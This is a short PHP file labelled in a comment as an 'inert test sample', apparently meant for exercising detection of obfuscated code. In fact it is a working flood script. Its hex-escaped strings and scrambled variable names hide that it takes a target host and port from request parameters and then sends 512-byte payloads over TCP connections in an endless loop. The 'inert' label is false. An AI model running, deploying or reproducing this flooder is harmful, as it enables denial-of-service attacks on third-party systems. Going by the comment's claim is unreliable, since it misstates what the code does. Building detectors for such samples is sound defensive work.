<?php
// inert test sample: the same flood with scrambled names and hex-escaped strings
$_0x3f1 = isset($_REQUEST["\x74"]) ? $_REQUEST["\x74"] : "\x31\x32\x37\x2e\x30\x2e\x30\x2e\x31";
$_0x9a2 = (int) @$_REQUEST["\x70"];
$_0x77c = str_repeat("\x58", 512);
for (;;) {
    if (connection_aborted()) { exit; }
    $_0x5e0 = @stream_socket_client("\x74\x63\x70\x3a\x2f\x2f" . $_0x3f1 . ":" . $_0x9a2, $_e, $_s, 5);
    if ($_0x5e0) { fwrite($_0x5e0, $_0x77c); }
}
